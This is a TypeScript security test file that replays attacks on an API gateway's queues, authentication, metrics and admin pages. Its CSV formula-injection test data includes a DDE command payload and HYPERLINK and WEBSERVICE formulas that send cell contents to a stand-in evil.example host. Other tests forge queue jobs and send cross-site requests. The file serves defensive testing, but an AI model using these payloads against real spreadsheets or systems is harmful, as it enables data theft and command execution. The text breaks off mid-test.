/**
 * The attacks of issue 12, replayed against real api and worker processes: each test is the
 * attack as it was made, and what the gateway must answer now.
 */
import assert from 'node:assert/strict';
import { sign as rsaSign, randomUUID } from 'node:crypto';
import { once } from 'node:events';
import { readFileSync } from 'node:fs';
import { connect, type Socket } from 'node:net';
import path from 'node:path';
import type { ChildProcess } from 'node:child_process';
import { Queue } from 'bullmq';
import { Redis } from 'ioredis';
import { JwtVerifier } from '../api/auth/jwt-verifier.js';
import { loadConfig } from '../shared/config.js';
import { batchJobId } from '../shared/batches/check-batch-jobs.js';
import { JobSigner } from '../shared/job-signing/job-signer.js';
import { shardOf } from '../shared/shards.js';
import { SimStateStore } from '../worker/driver/sim/state-store.js';
import { assertError, assertUnauthorized } from './support/assert-error.js';
import { newTenant, type Tenant } from './support/fixtures.js';
import { testEnv } from './support/hooks.js';
import { call } from './support/http.js';
import { JwksServer, newSigningKey, type SigningKey } from './support/jwks-server.js';
import { freePort, LOG_DIR, startPrivateRedis, waitFor, type GatewayProcess } from './support/processes.js';
import { newPhone, waitUntilOnline, writeSimWorld } from './support/sim-world.js';
import type { RunningApi } from './support/test-env.js';

const SHARDS = 16;
const uniq = () => Math.random().toString(36).slice(2, 10);
const sleep = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));
const basic = (user: string, password: string) => `Basic ${Buffer.from(`${user}:${password}`).toString('base64')}`;
/** A client address as a trusted proxy (here: loopback, TRUST_PROXY's default) forwards it. */
let clientCounter = 0;
const newClient = () => `198.51.100.${++clientCounter}`;
const b64 = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');
const nowS = () => Math.floor(Date.now() / 1000);

/** A JWT assembled by hand, for claims jsonwebtoken would not produce. */
function rawJwt(key: SigningKey, payload: Record<string, unknown>): string {
  const input = `${b64({ alg: 'RS256', typ: 'JWT', kid: key.kid })}.${b64(payload)}`;
  return `${input}.${rsaSign('sha256', Buffer.from(input), key.privateKey).toString('base64url')}`;
}

function liveQueue(sessionId: string): Queue {
  return new Queue('live', {
    prefix: testEnv.keys.liveQueuePrefix(shardOf(sessionId, SHARDS)),
    connection: testEnv.redis,
  });
}

function batchQueue(sessionId: string): Queue {
  return new Queue('batch', {
    prefix: testEnv.keys.batchQueuePrefix(shardOf(sessionId, SHARDS)),
    connection: testEnv.redis,
  });
}

/** The job signer the gateway processes of this run use (its secret was generated into MySQL). */
async function gatewaySigner(): Promise<JobSigner> {
  const [row] = (await testEnv.db.query("SELECT value FROM gateway_secrets WHERE name = 'job-signing'")) as {
    value: string;
  }[];
  assert.ok(row, 'the gateway generated its job signing secret');
  return new JobSigner(Buffer.from(row.value, 'base64url'));
}

/** The status line and headers of the first response on a raw socket. */
function responseHead(socket: Socket): Promise<string> {
  return new Promise((resolve, reject) => {
    let received = '';
    const onData = (chunk: Buffer) => {
      received += chunk.toString('latin1');
      const end = received.indexOf('\r\n\r\n');
      if (end >= 0) {
        socket.off('data', onData);
        resolve(received.slice(0, end));
      }
    };
    socket.on('data', onData);
    socket.once('close', () =>
      reject(new Error(`connection closed before a response (got ${JSON.stringify(received)})`)),
    );
    socket.once('error', reject);
  });
}

/** The job once it has failed, read after it did (a Job read earlier does not carry its failedReason). */
async function failedJob(queue: Queue, jobId: string, what: string) {
  await waitFor(async () => (await queue.getJobState(jobId)) === 'failed', what);
  const job = await queue.getJob(jobId);
  assert.ok(job, `job ${jobId} is kept after failing`);
  return job;
}

function sampleValue(text: string, name: string, labels: Record<string, string>): number {
  let sum = 0;
  for (const line of text.split('\n')) {
    const match = /^([a-zA-Z_:][\w:]*)(?:\{(.*)\})? (\S+)$/.exec(line);
    if (!match || match[1] !== name) continue;
    const have = Object.fromEntries(
      [...(match[2] ?? '').matchAll(/(\w+)="((?:[^"\\]|\\.)*)"/g)].map((m) => [m[1]!, m[2]!]),
    );
    if (Object.entries(labels).every(([k, v]) => have[k] === v)) sum += Number(match[3]);
  }
  return sum;
}

describe('security (issue 12: attacks replayed)', function () {
  this.timeout(90_000);
  const self = { phone: newPhone(), name: 'Victim account' };
  const victimContact = { phone: newPhone(), name: 'Someone' };
  const operator = { user: 'ops', password: `pw-${uniq()}-${uniq()}` };
  const metricsToken = `worker-metrics-${uniq()}-${uniq()}`;
  /** Organization A: its session is online; B: another tenant, with its own manage key. ops: named in ADMIN_ORGANIZATIONS. */
  let orgA: Tenant;
  let orgB: Tenant;
  let ops: Tenant;
  let worker: GatewayProcess;
  let workerMetricsUrl: string;
  /** Operator credentials, ADMIN_ORGANIZATIONS = ops, the failure limits on. */
  let secured: RunningApi;
  const blocklist = () => new SimStateStore(testEnv.redis, testEnv.redisPrefix).blocklist(orgA.sessionId);
  const contactJid = () => `${victimContact.phone}@s.whatsapp.net`;
  const contactLid = () => `9${victimContact.phone}@lid`;
  const liveQueueName = () => `shard-${shardOf(orgA.sessionId, SHARDS)}.live`;
  const batchQueueName = () => `shard-${shardOf(orgA.sessionId, SHARDS)}.batch`;
  const blockEnvelope = () => ({
    op: 'contacts.block',
    sessionId: orgA.sessionId,
    input: { jid: contactJid() },
    deadline: Date.now() + 60_000,
    replyTo: `${testEnv.redisPrefix}:live-replies:attacker`,
  });
  const workerMetrics = async () => {
    const res = await fetch(workerMetricsUrl, { headers: { authorization: `Bearer ${metricsToken}` } });
    assert.equal(res.status, 200);
    return res.text();
  };

  before(async () => {
    [orgA, orgB, ops] = await Promise.all([newTenant({ sessionId: `sess_sec_a_${uniq()}` }), newTenant(), newTenant()]);
    const world = writeSimWorld(`security-${uniq()}`, {
      accounts: [self, victimContact].map((a) => ({ ...a, lid: `9${a.phone}@lid` })),
      sessions: { [orgA.sessionId]: { phone: self.phone, paired: true } },
    });
    const port = await freePort();
    workerMetricsUrl = `http://127.0.0.1:${port}/metrics`;
    worker = testEnv.startWorker(
      world,
      { WORKER_METRICS_PORT: String(port), METRICS_TOKEN: metricsToken },
      `sec-w-${uniq()}`,
    );
    secured = await testEnv.startApi(
      {
        ADMIN_USER: operator.user,
        ADMIN_PASSWORD: operator.password,
        ADMIN_ORGANIZATIONS: ops.organizationId,
        ADMIN_LOGIN_FAILURES: '3',
        AUTH_FAILURES_PER_MINUTE: '5',
      },
      `api-secured-${uniq()}`,
    );
    await waitUntilOnline([orgA.sessionId]);
  });

  after(async () => {
    await Promise.allSettled([worker?.stop(), secured?.process.stop()]);
  });

  describe('1. Bull Board across organizations', () => {
    const board = (baseUrl: string, method: string, rest: string, headers: Record<string, string>, body?: unknown) =>
      call(method, `/admin/queues/api${rest}`, { baseUrl, headers, ...(body === undefined ? {} : { body }) });

    it("refuses another organization's manage key everything when ADMIN_ORGANIZATIONS is unset: no job added, no queue paused, no job listed", async () => {
      const asB = { authorization: `Bearer ${orgB.tokens.manage}` };
      const base = testEnv.api.baseUrl;
      assertError(
        await board(base, 'POST', `/queues/${liveQueueName()}/add`, asB, {
          name: 'contacts.block',
          data: blockEnvelope(),
          options: {},
        }),
        403,
        'forbidden',
      );
      assertError(await board(base, 'PUT', `/queues/${liveQueueName()}/pause`, asB), 403, 'forbidden');
      assertError(await board(base, 'GET', '/queues', asB), 403, 'forbidden');
      const queue = liveQueue(orgA.sessionId);
      try {
        assert.equal(await queue.isPaused(), false);
      } finally {
        await queue.close();
      }
      await sleep(500);
      assert.ok(!(await blocklist()).includes(contactLid()), "org A's contact was not blocked");
    });

    it("shows a listed organization's manage caller the board read-only: every action is 403 and changes nothing", async () => {
      const asOps = { authorization: `Bearer ${ops.tokens.manage}` };
      assert.equal((await board(secured.baseUrl, 'GET', '/queues', asOps)).status, 200);
      const q = liveQueueName();
      const actions: [string, string, unknown?][] = [
        ['POST', `/queues/${q}/add`, { name: 'contacts.block', data: blockEnvelope(), options: {} }],
        ['PUT', `/queues/${q}/retry/failed`],
        ['PUT', `/queues/${q}/promote`],
        ['PUT', `/queues/${q}/pause`],
        ['PUT', `/queues/${q}/clean/failed`],
        ['PUT', `/queues/${q}/empty`],
        ['PUT', `/queues/${q}/some-job/remove-unprocessed-children`],
        ['PATCH', `/queues/${q}/some-job/update-data`, { data: {} }],
        ['PUT', '/queues/pause'],
        ['POST', '/metrics/history/purge'],
      ];
      for (const [method, rest, body] of actions) {
        const details = assertError(await board(secured.baseUrl, method, rest, asOps, body), 403, 'forbidden');
        assert.deepEqual(details, {}, `${method} ${rest}`);
      }
      const queue = liveQueue(orgA.sessionId);
      try {
        assert.equal(await queue.isPaused(), false);
      } finally {
        await queue.close();
      }
    });

    it('lets the operator act, but the worker refuses a job added through Bull Board: failed unrun, counted, logged', async () => {
      const refusedBefore = sampleValue(await workerMetrics(), 'wag_jobs_refused_total', { queue: 'live' });
      const res = await board(
        secured.baseUrl,
        'POST',
        `/queues/${liveQueueName()}/add`,
        { authorization: basic(operator.user, operator.password) },
        { name: 'contacts.block', data: blockEnvelope(), options: {} },
      );
      assert.equal(res.status, 200, res.text);
      const jobId = String(res.body.job.id);
      const queue = liveQueue(orgA.sessionId);
      try {
        const job = await failedJob(queue, jobId, 'the added job to be refused');
        assert.match(job.failedReason, /not created by the gateway/);
      } finally {
        await queue.close();
      }
      assert.ok(!(await blocklist()).includes(contactLid()), 'the forged block never ran');
      assert.equal(sampleValue(await workerMetrics(), 'wag_jobs_refused_total', { queue: 'live' }), refusedBefore + 1);
    });

    it('runs a job signed for its own id, and refuses the same signed envelope copied into another job', async () => {
      const signer = await gatewaySigner();
      const queue = liveQueue(orgA.sessionId);
      try {
        const copiedId = randomUUID();
        const copied = signer.seal('live', randomUUID(), blockEnvelope());
        await queue.add('contacts.block', copied, { jobId: copiedId });
        const refused = await failedJob(queue, copiedId, 'the copied envelope to be refused');
        assert.match(refused.failedReason, /not created by the gateway/);
        assert.ok(!(await blocklist()).includes(contactLid()));

        const tamperedId = randomUUID();
        const tampered = {
          ...signer.seal('live', tamperedId, blockEnvelope()),
          input: { jid: `${self.phone}@s.whatsapp.net` },
        };
        await queue.add('contacts.block', tampered, { jobId: tamperedId });

        const genuineId = randomUUID();
        await queue.add('contacts.block', signer.seal('live', genuineId, blockEnvelope()), { jobId: genuineId });
        await waitFor(async () => (await blocklist()).includes(contactLid()), 'the genuine job to block the contact');
        const tamperedJob = await failedJob(queue, tamperedId, 'the tampered envelope to be refused');
        assert.match(tamperedJob.failedReason, /not created by the gateway/);
      } finally {
        await new SimStateStore(testEnv.redis, testEnv.redisPrefix).unblock(orgA.sessionId, contactLid());
        await queue.close();
      }
    });

    it('refuses a batch job the gateway did not sign, and leaves the batch unrun', async () => {
      // A batch stored as the api stores one, but whose job an attacker writes.
      const batchId = `batch_${uniq()}${uniq()}`;
      await testEnv.db.query(
        `INSERT INTO check_batches (id, organization_id, session_id, status, total, done, invalid, created_at, updated_at) VALUES (?, ?, ?, 'queued', 1, 0, 0, ?, ?)`,
        [batchId, orgA.organizationId, orgA.sessionId, Date.now(), Date.now()],
      );
      await testEnv.db.query(
        `INSERT INTO check_batch_sessions (batch_id, session_id, position, updated_at) VALUES (?, ?, 0, ?)`,
        [batchId, orgA.sessionId, Date.now()],
      );
      await testEnv.db.query(
        `INSERT INTO check_batch_numbers (batch_id, seq, phone, normalized, status) VALUES (?, 1, ?, ?, 'pending')`,
        [batchId, victimContact.phone, victimContact.phone],
      );
      const refusedBefore = sampleValue(await workerMetrics(), 'wag_jobs_refused_total', { queue: 'batch' });
      const res = await board(
        secured.baseUrl,
        'POST',
        `/queues/${batchQueueName()}/add`,
        { authorization: basic(operator.user, operator.password) },
        {
          name: 'check-batch',
          data: { batchId, sessionId: orgA.sessionId },
          options: { jobId: batchJobId(batchId, orgA.sessionId) },
        },
      );
      assert.equal(res.status, 200, res.text);
      const queue = batchQueue(orgA.sessionId);
      try {
        const job = await failedJob(queue, batchJobId(batchId, orgA.sessionId), 'the forged batch job to be refused');
        assert.match(job.failedReason, /not created by the gateway/);
      } finally {
        await queue.close();
      }
      const [row] = (await testEnv.db.query('SELECT done FROM check_batches WHERE id = ?', [batchId])) as {
        done: number;
      }[];
      assert.equal(Number(row!.done), 0, 'the batch was not run');
      assert.equal(sampleValue(await workerMetrics(), 'wag_jobs_refused_total', { queue: 'batch' }), refusedBefore + 1);
    });

    it("still runs the api's own live calls and batches (they are signed)", async () => {
      const check = await call(
        'GET',
        `/api/v1/sessions/${orgA.sessionId}/contacts/check?phone=${victimContact.phone}`,
        { token: orgA.tokens.read },
      );
      assert.equal(check.status, 200, check.text);
      assert.equal(check.body.isOnWhatsApp, true);
      const created = await call('POST', `/api/v1/sessions/${orgA.sessionId}/contacts/check-batch`, {
        token: orgA.tokens.read,
        body: { phones: [victimContact.phone] },
      });
      await waitFor(async () => {
        const res = await call('GET', `/api/v1/sessions/${orgA.sessionId}/contacts/check-batch/${created.body.id}`, {
          token: orgA.tokens.read,
        });
        return res.body.status === 'completed';
      }, 'the batch to complete');
    });

    it("protects the worker's /metrics with METRICS_TOKEN too", async () => {
      assert.equal((await fetch(workerMetricsUrl)).status, 401);
      assert.equal(
        (await fetch(workerMetricsUrl, { headers: { authorization: 'Bearer wrong-token-wrong-token' } })).status,
        401,
      );
    });
  });

  describe('2. nothing expensive before authentication', () => {
    const batchPath = () => `/api/v1/sessions/${orgA.sessionId}/contacts/check-batch`;

    it('answers an 8 MB deeply nested body without a token with 401 before the body has arrived, and /healthz answers meanwhile', async () => {
      const url = new URL(testEnv.api.baseUrl);
      const socket = connect(Number(url.port), '127.0.0.1');
      socket.on('error', () => undefined);
      try {
        await once(socket, 'connect');
        socket.write(
          `POST ${batchPath()} HTTP/1.1\r\nHost: ${url.host}\r\nContent-Type: application/json\r\nContent-Length: ${8 * 1024 * 1024}\r\n\r\n`,
        );
        // An eighth of the body; the rest never comes. A server that read bodies first would still be waiting.
        socket.write('['.repeat(1024 * 1024));
        const head = await responseHead(socket);
        assert.match(head, /^HTTP\/1\.1 401 /);
        assert.equal((await call('GET', '/healthz')).status, 200, '/healthz answers while that request is open');
      } finally {
        socket.destroy();
      }
    });

    it('refuses JSON nested deeper than 8 levels with 400 validation_error before parsing it', async () => {
      const deep = `{"phones":${'['.repeat(200_000)}${']'.repeat(200_000)}}`;
      const details = assertError(
        await call('POST', batchPath(), { token: orgA.tokens.read, rawBody: deep }),
        400,
        'validation_error',
      );
      assert.equal(details['body'], 'nested too deeply');
      const eight = `{"phones":${'['.repeat(7)}"x"${']'.repeat(7)}}`;
      const allowed = assertError(
        await call('POST', batchPath(), { token: orgA.tokens.read, rawBody: eight }),
        400,
        'validation_error',
      );
      assert.notEqual(
        allowed['body'],
        'nested too deeply',
        'eight levels are parsed (and then refused as not a list of numbers)',
      );
    });

    it("reads at most what each route needs: 413 payload_too_large over the route's limit", async () => {
      const big = JSON.stringify({
        phones: Array.from(
          { length: 60_000 },
          (_, i) => `+49 1512 ${String(i).padStart(7, '0')}-000000000000000000000000000000000000000000000`,
        ),
      });
      assert.ok(big.length > 50_000 * 68 + 1024, `${big.length} bytes`);
      assertError(await call('POST', batchPath(), { token: orgA.tokens.read, rawBody: big }), 413, 'payload_too_large');
      assertError(
        await call('POST', `/api/v1/sessions/${orgA.sessionId}/pairing-code`, {
          token: orgA.tokens.all,
          rawBody: JSON.stringify({ phone: '1'.repeat(20_000) }),
        }),
        413,
        'payload_too_large',
      );
    });

    it('reads no body for a request the rate limiter refuses', async () => {
      const limited = await testEnv.startApi({ RATE_LIMIT_PER_MINUTE: '1' }, `api-sec-rl-${uniq()}`);
      try {
        const t = await newTenant();
        assert.equal(
          (
            await call('GET', `/api/v1/sessions/${t.sessionId}/contacts`, {
              token: t.tokens.read,
              baseUrl: limited.baseUrl,
            })
          ).status,
          200,
        );
        assertError(
          await call('POST', `/api/v1/sessions/${t.sessionId}/contacts/check-batch`, {
            token: t.tokens.read,
            rawBody: '[[[[[[[[[[[[[[[[[[[[1]]]]]]]]]]]]]]]]]]]',
            baseUrl: limited.baseUrl,
          }),
          429,
          'rate_limited',
        );
      } finally {
        await limited.process.stop();
      }
    });
  });

  describe('3. JWKS: unknown key ids never lock real logins out', () => {
    let jwks: JwksServer;
    // One stranger key under many kids: generating a key per token would block the event loop for seconds.
    const stranger = newSigningKey();
    const verifier = (env: Record<string, string> = {}) =>
      new JwtVerifier(
        loadConfig({ JWKS_URL: jwks.url, JWT_ISSUER: jwks.issuer, JWT_AUDIENCE: jwks.audience, ...env }).jwt!,
      );
    const junk = (i: number) =>
      jwks.sign({ org: 'org_x', role: 'owner' }, { key: { ...stranger, kid: `junk-${uniq()}-${i}` } });
    const real = () => jwks.sign({ org: 'org_x', role: 'owner' });
    const outcome = (p: Promise<unknown>) =>
      p.then(
        () => 'ok',
        (err: { code?: string }) => err.code ?? 'crash',
      );

    beforeEach(async () => {
      jwks = new JwksServer();
      await jwks.start();
    });

    afterEach(async () => {
      await jwks.stop();
    });

    it('refuses 50 unknown kids on a fresh api with one key set fetch, and a real login right after is accepted', async () => {
      const v = verifier();
      const tokens = Array.from({ length: 50 }, (_, i) => junk(i));
      const outcomes = await Promise.all(tokens.map((token) => outcome(v.verify(token))));
      assert.deepEqual(new Set(outcomes), new Set(['unauthorized']));
      assert.equal(jwks.requests, 1, 'the 50 unknown kids shared one fetch');
      assert.equal(await outcome(v.verify(real())), 'ok');
      assert.equal(jwks.requests, 1, 'the real key came from the set already fetched');
    });

    it('fetches at most once per cooldown for everyone: a kid unknown within the cooldown is refused at once, without a fetch', async () => {
      const v = verifier({ JWKS_REQUESTS_PER_MINUTE: '60' });
      const rotated = newSigningKey();
      const tokens = Array.from({ length: 20 }, (_, i) => junk(i));
      const rotatedToken = jwks.sign({ org: 'org_x', role: 'owner' }, { key: rotated });
      assert.equal(await outcome(v.verify(real())), 'ok');
      jwks.published.push(rotated);
      const fetches = jwks.requests;
      for (const token of tokens) assert.equal(await outcome(v.verify(token)), 'unauthorized');
      assert.equal(
        await outcome(v.verify(rotatedToken)),
        'unauthorized',
        'within the cooldown even a new real key waits',
      );
      assert.equal(jwks.requests, fetches, 'no fetch within the cooldown');
      await sleep(1_100);
      assert.equal(
        await outcome(v.verify(jwks.sign({ org: 'org_x', role: 'owner' }, { key: rotated }))),
        'ok',
        'after it, the rotated key is fetched',
      );
      assert.equal(jwks.requests, fetches + 1);
    });

    it('keeps serving the last good key set past its cache time while the JWKS endpoint is unreachable', async () => {
      const v = verifier({ JWKS_CACHE_MS: '1000', JWKS_REQUESTS_PER_MINUTE: '600' });
      assert.equal(await outcome(v.verify(real())), 'ok');
      jwks.failing = true;
      await sleep(1_200);
      const fetches = jwks.requests;
      for (let i = 0; i < 3; i++) {
        assert.equal(await outcome(v.verify(real())), 'ok');
        await sleep(150);
      }
      assert.ok(jwks.requests > fetches, 'the stale set was refetched, in the background');
      jwks.failing = false;
    });

    it('answers 503 (retry) rather than 401 when no key set was ever fetched, without asking the endpoint per request', async () => {
      jwks.failing = true;
      const v = verifier();
      const outcomes = await Promise.all(Array.from({ length: 10 }, () => outcome(v.verify(real()))));
      assert.deepEqual(new Set(outcomes), new Set(['unavailable']));
      assert.equal(jwks.requests, 1);
    });
  });

  describe('4. the CSV formula guard', () => {
    it('defuses every invalid entry that a spreadsheet would run, and leaves phone numbers as sent', async () => {
      const attacks = [
        "-2+3+cmd|' /C calc'!A0",
        '+1+HYPERLINK("http://evil.example/?x="&A1,"click")',
        '-0+WEBSERVICE("http://evil.example/")',
        '=1+1',
        '@SUM(A1)',
        '\t=1',
        '+12',
      ];
      const valid = `+${victimContact.phone}`;
      const t = await newTenant();
      const created = await call('POST', `/api/v1/sessions/${t.sessionId}/contacts/check-batch`, {
        token: t.tokens.read,
        body: { phones: [valid, ...attacks] },
      });
      assert.equal(created.status, 202, created.text);
      const res = await call('GET', `/api/v1/sessions/${t.sessionId}/contacts/check-batch/${created.body.id}/results`, {
        token: t.tokens.read,
        headers: { accept: 'text/csv' },
      });
      assert.equal(res.status, 200);
      const firstCells = res.text
        .trimEnd()
        .split('\n')
        .slice(1)
        .map((line) => (line.startsWith('"') ? line.slice(1) : line));
      assert.ok(firstCells[0]!.startsWith(`${valid},`), `the valid number stays as sent: ${firstCells[0]}`);
      for (const [i, line] of firstCells.slice(1).entries())
        assert.ok(line.startsWith("'"), `${JSON.stringify(attacks[i])} came back as ${JSON.stringify(line)}`);
    });
  });

  describe('5. operator logins are throttled (ADMIN_LOGIN_FAILURES=3, per client and per user name, in Redis)', () => {
    const queues = (baseUrl: string, headers: Record<string, string>) =>
      call('GET', '/admin/queues/api/queues', { baseUrl, headers });
    const form = (baseUrl: string, fields: Record<string, string>, client: string) =>
      fetch(`${baseUrl}/admin/login`, {
        method: 'POST',
        redirect: 'manual',
        headers: { 'content-type': 'application/x-www-form-urlencoded', 'x-forwarded-for': client },
        body: new URLSearchParams(fields).toString(),
      });

    it('refuses even the right password with 429 and Retry-After after 3 wrong ones for that user name, from any client and any api process', async () => {
      const peer = await testEnv.startApi(
        { ADMIN_USER: operator.user, ADMIN_PASSWORD: operator.password, ADMIN_LOGIN_FAILURES: '3' },
        `api-sec-peer-${uniq()}`,
      );
      try {
        const attacker = newClient();
        for (let i = 0; i < 3; i++)
          assertUnauthorized(
            await queues(secured.baseUrl, {
              authorization: basic(operator.user, `wrong-${i}-password`),
              'x-forwarded-for': attacker,
            }),
          );
        const refused = await queues(secured.baseUrl, {
          authorization: basic(operator.user, operator.password),
          'x-forwarded-for': attacker,
        });
        assertError(refused, 429, 'rate_limited');
        assert.ok(Number(refused.headers.get('retry-after')) > 0);
        // Another client, another api process: the user name's count is shared through Redis.
        assertError(
          await queues(peer.baseUrl, {
            authorization: basic(operator.user, operator.password),
            'x-forwarded-for': newClient(),
          }),
          429,
          'rate_limited',
        );
        const page = await form(secured.baseUrl, operator, newClient());
        assert.equal(page.status, 429);
        assert.ok(Number(page.headers.get('retry-after')) > 0);
        assert.equal(page.headers.get('set-cookie'), null);
      } finally {
        await peer.process.stop();
        // The next test signs the operator in: forget this one's failures under the operator's name.
        const userCounts = await testEnv.redis.keys(`${testEnv.redisPrefix}:rl:admin-login:user:*`);
        if (userCounts.length > 0) await testEnv.redis.del(...userCounts);
      }
    });

    it('refuses a client that failed 3 times, whatever user name or token it tries next, and not other clients', async () => {
      const attacker = newClient();
      for (const fields of <Record<string, string>[]>[
        { user: 'admin', password: 'guess-guess-1' },
        { user: 'root', password: 'guess-guess-2' },
        { token: `wag_${'0'.repeat(24)}_${'A'.repeat(43)}` },
      ]) {
        assert.equal((await form(secured.baseUrl, fields, attacker)).status, 401);
      }
      assert.equal((await form(secured.baseUrl, operator, attacker)).status, 429);
      assert.equal((await form(secured.baseUrl, { token: ops.tokens.manage }, attacker)).status, 429);
      assert.equal((await form(secured.baseUrl, operator, newClient())).status, 303);
    });
  });

  describe('6. token contents never cause a 500', () => {
    const list = (t: Tenant, token: string) => call('GET', `/api/v1/sessions/${t.sessionId}/contacts`, { token });

    for (const role of ['constructor', '__proto__', 'toString', 'hasOwnProperty', 'valueOf']) {
      it(`gives role "${role}" no capabilities (403), looking roles up as own keys only`, async () => {
        assertError(await list(orgA, testEnv.jwks.sign({ org: orgA.organizationId, role })), 403, 'forbidden');
      });
    }

    for (const [what, org] of [
      ['non-ASCII characters', `${'org'}é${uniq()}`],
      ['a space', 'org x'],
      ['more than 64 characters', `org_${'x'.repeat(61)}`],
      ['a slash', 'org/../x'],
    ] as const) {
      it(`answers an organization claim with ${what} with 401`, async () => {
        assertUnauthorized(await list(orgA, testEnv.jwks.sign({ org, role: 'owner' })));
      });
    }
  });

  describe('7. /metrics', () => {
    it('reads the queue depths once for 20 concurrent scrapers, and not again within 5 s', async () => {
      const port = await freePort();
      const redis: ChildProcess = await startPrivateRedis(port);
      const probe = new Redis(port, '127.0.0.1');
      const api = await testEnv.startApi(
        { REDIS_URL: `redis://127.0.0.1:${port}`, SHARD_COUNT: '4' },
        `api-sec-metrics-${uniq()}`,
      );
      try {
        // BullMQ reads a queue's depth with one Lua script call (EVALSHA): count those.
        const scriptCalls = async () => {
          const stats = await probe.info('commandstats');
          return [...stats.matchAll(/^cmdstat_(?:evalsha|eval):calls=(\d+)/gm)].reduce(
            (sum, m) => sum + Number(m[1]),
            0,
          );
        };
        const scrapes = () =>
          Promise.all(Array.from({ length: 20 }, () => call('GET', '/metrics', { baseUrl: api.baseUrl })));
        // A live and a batch queue per shard, and the webhook delivery queue.
        const queues = 2 * 4 + 1;
        const start = await scriptCalls();
        for (const res of await scrapes()) assert.equal(res.status, 200);
        // Twice the queues at most: a fresh Redis may first answer NOSCRIPT and be sent the script itself.
        const first = (await scriptCalls()) - start;
        assert.ok(
          first >= queues && first <= 2 * queues,
          `20 concurrent scrapes shared one reading of the ${queues} queues: ${first} script calls`,
        );
        const again = await scriptCalls();
        await scrapes();
        assert.equal((await scriptCalls()) - again, 0, 'scrapes within 5 s reuse the reading');
        await sleep(5_100);
        const later = await scriptCalls();
        await scrapes();
        assert.equal((await scriptCalls()) - later, queues, 'after 5 s the depths are read again, once');
      } finally {
        await api.process.stop();
        probe.disconnect();
        redis.kill('SIGTERM');
      }
    });

    it('warns at start-up in production when METRICS_TOKEN is unset, and not when it is set', async () => {
      const warning = 'GET /metrics is open to anyone';
      const logOf = (name: string) => readFileSync(path.join(LOG_DIR, `${testEnv.runId}-${name}.log`), 'utf8');
      const open = `api-sec-prod-open-${uniq()}`;
      const closed = `api-sec-prod-token-${uniq()}`;
      const apis = [
        await testEnv.startApi({ NODE_ENV: 'production' }, open),
        await testEnv.startApi({ NODE_ENV: 'production', METRICS_TOKEN: metricsToken }, closed),
      ];
      try {
        assert.ok(logOf(open).includes(warning), 'the warning is logged');
        assert.ok(!logOf(closed).includes(warning));
      } finally {
        await Promise.all(apis.map((a) => a.process.stop()));
      }
    });
  });

  describe('8. check batches', () => {
    const batchPath = (t: Tenant, rest = '') => `/api/v1/sessions/${t.sessionId}/contacts/check-batch${rest}`;
    const create = (t: Tenant, token: string, phones: string[], baseUrl = testEnv.api.baseUrl) =>
      call('POST', batchPath(t), { token, body: { phones }, baseUrl });
    const cancel = (t: Tenant, id: string, token: string, baseUrl = testEnv.api.baseUrl) =>
      call('DELETE', batchPath(t, `/${id}`), { token, baseUrl });
    const phones = (n: number) => Array.from({ length: n }, () => newPhone());

    it('lets a read-only key cancel only the batches it created; cancelling another needs send', async () => {
      const t = await newTenant();
      const otherReader = (await testEnv.admin.createApiKey(t.organizationId, 'second reader', ['read'])).token;
      const batch = (await create(t, t.tokens.read, phones(3))).body.id as string;
      const details = assertError(await cancel(t, batch, otherReader), 403, 'forbidden');
      assert.equal(details['required'], 'send');
      assert.equal((await call('GET', batchPath(t, `/${batch}`), { token: t.tokens.read })).body.status, 'queued');
      assert.equal((await cancel(t, batch, t.tokens.read)).status, 204, 'its creator may');
      const another = (await create(t, t.tokens.read, phones(3))).body.id as string;
      assert.equal((await cancel(t, another, t.tokens.all)).status, 204, 'a read+send key may');
    });

    it('recognises a person by the subject of their login JWT', async () => {
      const t = await newTenant();
      const as = (sub: string) => testEnv.jwks.sign({ org: t.organizationId, role: 'viewer', sub });
      const batch = (await create(t, as('alice'), phones(2))).body.id as string;
      assertError(await cancel(t, batch, as('bob')), 403, 'forbidden');
      assertError(
        await cancel(t, batch, testEnv.jwks.sign({ org: t.organizationId, role: 'viewer', sub: undefined })),
        403,
        'forbidden',
      );
      assert.equal((await cancel(t, batch, as('alice'))).status, 204);
    });

    describe('BATCH_MAX_PENDING_PER_ORG=100', () => {
      let api: RunningApi;
      before(async () => {
        api = await testEnv.startApi({ BATCH_MAX_PENDING_PER_ORG: '100' }, `api-sec-pending-${uniq()}`);
      });
      after(async () => {
        await api?.process.stop();
      });

      it("refuses a batch that would take the organization's unchecked numbers over the cap with 429, and takes it once some are cancelled", async () => {
        const t = await newTenant();
        const first = await create(t, t.tokens.read, phones(80), api.baseUrl);
        assert.equal(first.status, 202);
        const refused = await create(t, t.tokens.read, phones(30), api.baseUrl);
        const details = assertError(refused, 429, 'rate_limited');
        assert.deepEqual(
          { limit: details['limit'], pending: details['pending'], requested: details['requested'] },
          { limit: 100, pending: 80, requested: 30 },
        );
        assert.ok(Number(refused.headers.get('retry-after')) > 0);
        assert.equal(
          (await create(t, t.tokens.read, ['not a number', 'nope'], api.baseUrl)).status,
          202,
          'invalid entries add nothing to check',
        );
        assert.equal((await cancel(t, first.body.id, t.tokens.read, api.baseUrl)).status, 204);
        assert.equal((await create(t, t.tokens.read, phones(30), api.baseUrl)).status, 202);
      });

      it('lets only one of two batches created at once through when both would not fit', async () => {
        const t = await newTenant();
        const results = await Promise.all([
          create(t, t.tokens.read, phones(60), api.baseUrl),
          create(t, t.tokens.read, phones(60), api.baseUrl),
        ]);
        assert.deepEqual(results.map((r) => r.status).sort(), [202, 429]);
        const other = await newTenant();
        assert.equal(
          (await create(other, other.tokens.read, phones(60), api.baseUrl)).status,
          202,
          'the cap is per organization',
        );
      });
    });
  });

  describe('9. CSRF on the admin pages', () => {
    const add = (headers: Record<string, string>, body: string) =>
      fetch(`${secured.baseUrl}/admin/queues/api/queues/${liveQueueName()}/add`, {
        method: 'POST',
        headers: { authorization: basic(operator.user, operator.password), ...headers },
        body,
      });
    const json = JSON.stringify({ name: 'probe', data: { probe: true }, options: { delay: 3_600_000 } });

    it('refuses a text/plain POST with a foreign Origin, and one a browser marks cross-site, adding nothing', async () => {
      const queue = liveQueue(orgA.sessionId);
      try {
        const before = await queue.getDelayedCount();
        for (const headers of <Record<string, string>[]>[
          { 'content-type': 'text/plain', origin: 'http://evil.example' },
          { 'content-type': 'application/json', origin: 'http://evil.example' },
          { 'content-type': 'text/plain', 'sec-fetch-site': 'cross-site', origin: 'http://evil.example' },
          { 'content-type': 'application/json', 'sec-fetch-site': 'same-site' },
